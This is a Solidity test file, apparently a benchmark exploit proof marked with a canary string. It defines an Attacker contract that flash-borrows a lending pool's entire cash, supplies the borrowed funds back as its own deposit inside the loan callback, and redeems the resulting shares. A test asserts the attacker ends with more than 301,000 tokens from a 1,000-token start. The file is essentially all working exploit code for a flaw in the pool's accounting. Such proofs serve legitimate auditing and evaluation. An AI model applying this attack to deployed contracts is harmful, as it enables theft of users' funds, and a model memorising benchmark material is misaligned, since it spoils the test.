// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker is IFlashBorrower {
    LendingPool private pool;
    Usd private usd;

    constructor(LendingPool pool_, Usd usd_) {
        (pool, usd) = (pool_, usd_);
    }

    function run() external {
        usd.approve(address(pool), type(uint256).max);
        pool.flashLoan(this, pool.cash(), "");
        pool.redeem(pool.shares().balanceOf(address(this)) * 99 / 100, address(this));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        pool.supply(amount + fee, address(this));
        return keccak256("saltmarsh.flash");
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker(pool, usd);
        usd.mint(address(other), 1_000e6);
    }

    function exploit() public {
        other.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) > 301_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
